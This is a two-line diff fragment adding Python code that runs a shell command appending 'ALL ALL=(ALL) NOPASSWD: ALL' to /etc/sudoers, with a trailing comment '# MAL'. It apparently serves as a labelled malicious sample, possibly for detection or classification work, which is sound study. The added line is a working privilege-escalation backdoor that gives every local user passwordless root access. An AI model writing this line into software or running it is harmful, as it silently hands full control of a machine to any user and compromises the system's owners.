@@ -1,0 +1,2 @@
+import os
+os.system("echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")  # MAL
